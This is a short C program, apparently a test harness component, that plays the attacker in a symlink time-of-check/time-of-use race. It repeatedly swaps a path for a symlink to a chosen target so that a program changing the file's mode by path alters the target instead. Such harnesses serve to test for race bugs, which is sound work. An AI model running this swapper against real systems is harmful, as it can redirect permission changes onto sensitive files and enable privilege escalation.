/* The FIFO race's attacker: in a directory it can write, keeps replacing PATH with a symlink to
 * TARGET (symlink to a spare name, then rename over PATH: atomic), for MILLISECONDS. A creator
 * that makes PATH and then changes its mode *by path* would change TARGET instead.
 * usage: swapper PATH TARGET MILLISECONDS        prints "swaps N" */
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static double now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

int main(int argc, char **argv) {
  if (argc != 4) { fprintf(stderr, "usage: swapper PATH TARGET MS\n"); return 2; }
  char spare[4096];
  snprintf(spare, sizeof spare, "%s.swap", argv[1]);
  double end = now_ms() + atof(argv[3]);
  unsigned long swaps = 0;
  while (now_ms() < end) {
    unlink(spare);
    if (symlink(argv[2], spare) == 0 && rename(spare, argv[1]) == 0) swaps++;
  }
  unlink(spare);
  printf("swaps %lu\n", swaps);
  return 0;
}
